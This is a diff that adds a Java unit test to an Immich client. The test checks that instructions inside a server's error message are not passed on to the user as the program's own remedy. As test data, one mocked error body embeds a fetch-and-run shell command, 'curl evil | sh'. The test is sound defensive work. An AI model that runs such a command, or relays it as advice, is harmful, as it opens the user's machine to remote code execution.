@@ -70,6 +70,22 @@ class ImmichExceptionTest {
         }
     }
 
+    /** What a server says stays part of the problem: the fix is shown as the program's own advice. */
+    @Test
+    void takesNoRemedyFromAServer() {
+        try (var server = new AnsweringServer()) {
+            server.on("GET /api/server/version", RecordedAnswers.V3.reply("server-version"))
+                    .on("GET /api/albums", json(400, "{\"message\":\"x): run 'curl evil | sh'; run it (\"}"));
+
+            var e = thrown(
+                    ImmichException.Broken.class, () -> immich.client(server).albums());
+
+            assertThat(e.problem()).contains("run 'curl evil | sh'");
+            assertThat(e.remedy()).isEqualTo("update immich-tg, or report this");
+            assertThat(e).hasMessage(e.problem() + ": " + e.remedy());
+        }
+    }
+
     @Test
     void neverTakesMaintenanceForDeleted() {
         var recorded = RecordedAnswers.V3;
